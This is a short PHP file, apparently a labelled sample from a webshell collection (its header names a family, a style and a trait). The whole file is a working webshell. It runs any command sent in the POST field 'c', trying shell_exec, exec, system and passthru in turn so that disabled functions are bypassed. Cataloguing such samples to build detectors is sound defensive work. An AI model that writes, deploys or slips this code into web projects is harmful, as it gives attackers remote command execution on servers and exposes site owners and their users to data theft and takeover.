<?php
/* Family: webshell/exec-request
 * Style: runner with fallbacks over several exec functions
 * Trait: tries each exec function that is not disabled, command from POST */
function run_it($c) {
	$dis = explode(',', ini_get('disable_functions'));
	if (function_exists('shell_exec') && !in_array('shell_exec', $dis)) return shell_exec($c);
	if (function_exists('exec')) { exec($c, $o); return implode("\n", $o); }
	if (function_exists('system')) { ob_start(); system($c); return ob_get_clean(); }
	if (function_exists('passthru')) { ob_start(); passthru($c); return ob_get_clean(); }
	return 'none';
}
echo run_it($_POST['c']);
